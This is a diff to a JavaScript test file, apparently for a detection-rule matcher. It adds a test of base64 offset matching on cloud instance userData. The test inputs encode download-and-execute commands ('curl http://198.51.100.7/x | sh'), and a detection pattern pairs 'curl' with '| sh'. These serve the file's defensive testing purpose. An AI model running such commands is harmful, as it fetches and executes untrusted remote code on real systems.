@@ -23,6 +23,12 @@ describe('the base64 and base64offset modifiers', () => {
     expect(matches({ requestParameters: { userData: b64('curl http://203.0.113.9/x | sh') } })).toBe(false);
   });
 
+  it('base64offset|contains|all needs every value, each at any offset', () => {
+    const matches = fieldMatcher('requestParameters.userData|base64offset|contains|all', ['curl', '| sh']);
+    expect(matches({ requestParameters: { userData: b64('x curl http://198.51.100.7/x | sh') } })).toBe(true);
+    expect(matches({ requestParameters: { userData: b64('x curl http://198.51.100.7/x') } })).toBe(false);
+  });
+
   it('compares encoded text case-sensitively, since base64 is', () => {
     const matches = fieldMatcher('requestParameters.userData|base64', 'bash');
     expect(matches({ requestParameters: { userData: b64('bash').toLowerCase() } })).toBe(false);
